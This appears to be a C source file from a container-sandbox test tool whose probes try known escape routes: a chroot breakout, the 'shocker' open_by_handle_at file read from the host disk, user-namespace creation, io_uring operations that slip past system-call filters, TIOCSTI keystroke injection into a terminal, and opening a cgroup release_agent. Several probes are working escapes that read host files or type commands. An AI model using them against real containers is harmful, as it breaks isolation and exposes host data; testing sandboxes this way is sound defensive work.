// SPDX-License-Identifier: Apache-2.0
// Ways out of a container that have been taken before.
#include "line.h"
#include "CProbe.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>

static char bytes[4096];

// chroot(2) moves the root and not the working directory: who is outside of it climbs as far as there is something.
int probe_chrootesc(int count, char *const *words) {
    if (count != 1) return wrong("chrootesc", "PATH");
    char jail[] = "/tmp/.minibox-probe-XXXXXX", other[] = "/.minibox-probe-XXXXXX";
    struct stat before = {0}, after = {0};
    stat("/", &before);
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), error = told(root);
    char *made = mkdtemp(jail);
    if (made == NULL) made = mkdtemp(other);
    if (made == NULL) error = errno;
    if (error == 0) error = told(chroot(made));
    if (made != NULL) unlinkat(root, made + 1, AT_REMOVEDIR);
    if (error == 0) error = told(fchdir(root));
    for (int i = 0; i < 64 && error == 0; i++) error = told(chdir(".."));
    if (error == 0) error = told(chroot("."));
    if (error == 0) error = told(stat("/", &after));
    line_start("chrootesc");
    line_result(error);
    if (error == 0) {
        line_truth("outside", before.st_ino != after.st_ino || before.st_dev != after.st_dev);
        line_number("inode", (long long)after.st_ino);
        long got = read_start(words[0], bytes, sizeof bytes);
        line_text("file", got < 0 ? strerrorname_np((int)-got) : "OK");
        if (got > 0) line_flag(bytes, got);
    }
    line_end();
    return 0;
}

// The handle of the root directory of an ext4 or xfs, which is the same on all of them: nothing has to be guessed.
int probe_shocker(int count, char *const *words) {
    if (count != 2) return wrong("shocker", "FILE-OF-THAT-DISK PATH-ON-THE-DISK");
    static const unsigned roots[] = {2, 128, 64};
    int anchor = open(words[0], O_RDONLY | O_CLOEXEC), error = told(anchor), root = -1;
    for (size_t i = 0; i < sizeof roots / sizeof *roots && anchor >= 0 && root < 0; i++) {
        struct {
            struct file_handle handle;
            unsigned inode[2];
        } both;
        memset(&both, 0, sizeof both);
        both.handle.handle_bytes = 8;
        both.handle.handle_type = 1;
        memcpy(both.handle.f_handle, &roots[i], 4);
        root = open_by_handle_at(anchor, &both.handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        error = told(root);
    }
    line_start("shocker");
    if (root >= 0) {
        int file = openat(root, words[1], O_RDONLY | O_CLOEXEC);
        error = told(file);
        ssize_t got = file < 0 ? -1 : read(file, bytes, sizeof bytes);
        line_result(error);
        if (got > 0) line_flag(bytes, got);
    } else {
        line_result(error);
    }
    line_end();
    return 0;
}

static void child_told(const char *how, int (*attempt)(void)) {
    pid_t child = fork();
    if (child == 0) _exit(attempt());
    int status = 0;
    int error = child < 0 ? errno : waitpid(child, &status, 0) < 0 ? errno : WEXITSTATUS(status);
    line_start("userns");
    line_text("what", how);
    line_result(error);
    line_end();
}
static int by_unshare(void) { return told(unshare(CLONE_NEWUSER)); }
static int by_clone(void) {
    long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
    if (child == 0) _exit(0);
    return told(child);
}
static int by_clone3(void) {
    struct clone_args arguments;
    memset(&arguments, 0, sizeof arguments);
    arguments.flags = CLONE_NEWUSER;
    arguments.exit_signal = SIGCHLD;
    long child = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (child == 0) _exit(0);
    return told(child);
}

int probe_userns(int count, char *const *words) {
    (void)words;
    if (count > 0) return wrong("userns", "");
    child_told("unshare", by_unshare);
    child_told("clone", by_clone);
    child_told("clone3", by_clone3);
    return 0;
}

static void step(const char *probe, const char *name, int error) {
    line_start(probe);
    line_text("what", name);
    line_result(error);
    line_end();
}

// Makes a directory by mkdirat(2), and by a ring, which a filter of system calls does not see. Both are removed again.
int probe_uring(int count, char *const *words) {
    if (count != 1) return wrong("uring", "DIRECTORY-TO-MAKE");
    int error = told(mkdirat(AT_FDCWD, words[0], 0700));
    if (error == 0) rmdir(words[0]);
    step("uring", "mkdirat", error);
    struct io_uring_params parameters;
    memset(&parameters, 0, sizeof parameters);
    int ring = (int)syscall(SYS_io_uring_setup, 4, &parameters);
    step("uring", "setup", told(ring));
    if (ring < 0) return 0;
    size_t entries = parameters.sq_entries * sizeof(struct io_uring_sqe);
    size_t submissions = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
    size_t completions = parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe);
    int all = PROT_READ | PROT_WRITE;
    char *submit = mmap(NULL, submissions, all, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *complete = mmap(NULL, completions, all, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *entry = mmap(NULL, entries, all, MAP_SHARED, ring, IORING_OFF_SQES);
    if (submit == MAP_FAILED || complete == MAP_FAILED || entry == MAP_FAILED) {
        step("uring", "operation", errno);
        return 0;
    }
    memset(entry, 0, sizeof *entry);
    entry->opcode = IORING_OP_MKDIRAT;
    entry->fd = AT_FDCWD;
    entry->addr = (unsigned long)words[0];
    entry->len = 0700;
    ((unsigned *)(submit + parameters.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(submit + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
    error = told(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
    if (error == 0) error = -((struct io_uring_cqe *)(complete + parameters.cq_off.cqes))->res;
    step("uring", "operation", error);
    struct stat status;
    step("uring", "directory", told(stat(words[0], &status)));
    rmdir(words[0]);
    close(ring);
    return 0;
}

// Types into the terminal that standard input is. Without words it asks for permission alone: with an address of nothing
// for the character the kernel tells EFAULT where it would have typed.
int probe_sti(int count, char *const *words) {
    if (count > 1) return wrong("sti", "[TEXT]");
    struct stat status = {0};
    int error = told(fstat(0, &status));
    if (error == 0 && count == 0) {
        error = told(ioctl(0, TIOCSTI, NULL));
        if (error == EFAULT) error = 0;
    }
    for (const char *next = count == 1 ? words[0] : ""; *next != 0 && error == 0; next++) {
        error = told(ioctl(0, TIOCSTI, next));
    }
    if (error == 0 && count == 1) error = told(ioctl(0, TIOCSTI, "\n"));
    line_start("sti");
    line_result(error);
    line_number("terminal", (long long)status.st_rdev);
    line_number("device", (long long)status.st_dev);
    line_end();
    return 0;
}

// Opens `release_agent` of a hierarchy of cgroup v1 that there is already, for writing, and writes nothing. The mount is
// attached nowhere. A hierarchy that there is not would be made by mounting it, for the whole machine.
int probe_release_agent(int count, char *const *words) {
    if (count != 1 || strcmp(words[0], "--open-only") != 0) return wrong("release-agent", "--open-only");
    int system = (int)syscall(SYS_fsopen, "cgroup", 1);
    step("release-agent", "fsopen", told(system));
    if (system < 0) return 0;
    close(system);
    FILE *groups = fopen("/proc/cgroups", "re");
    char line[256], name[64], last[64] = "";
    int hierarchy, error = ENODEV;
    while (groups != NULL && error != 0 && fgets(line, sizeof line, groups) != NULL) {
        if (sscanf(line, "%63s %d", name, &hierarchy) != 2 || hierarchy == 0 || name[0] == '#') continue;
        strcpy(last, name);
        int context = (int)syscall(SYS_fsopen, "cgroup", 1), mount = -1;
        error = told(syscall(SYS_fsconfig, context, 0 /* FSCONFIG_SET_FLAG */, name, NULL, 0));
        if (error == 0) error = told(syscall(SYS_fsconfig, context, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0));
        if (error == 0) {
            mount = (int)syscall(SYS_fsmount, context, 1, 0);
            error = told(mount);
        }
        if (error == 0) {
            int agent = openat(mount, "release_agent", O_WRONLY | O_CLOEXEC);
            error = told(agent);
            if (agent >= 0) close(agent);
        }
        if (mount >= 0) close(mount);
        if (context >= 0) close(context);
    }
    if (groups != NULL) fclose(groups);
    line_start("release-agent");
    line_text("what", "open");
    line_text("hierarchy", last);
    line_result(error);
    line_end();
    return 0;
}
